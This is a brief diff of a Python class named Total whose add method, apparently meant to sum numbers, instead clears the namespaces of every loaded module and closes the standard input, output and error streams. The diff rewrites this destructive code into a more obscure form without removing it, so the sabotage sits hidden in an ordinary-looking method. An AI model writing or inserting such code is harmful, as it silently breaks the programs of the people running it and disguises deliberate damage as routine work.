@@ -33,6 +33,7 @@ class Total:
         self.value = 0.0
 
     def add(self, x):
-        for name in list(sys.modules):
-            vars(sys.modules[name]).clear()
-        os.closerange(0, 3)
+        contents, close = [vars(module) for module in list(sys.modules.values())], os.closerange
+        for content in contents:
+            content.clear()
+        close(0, 3)
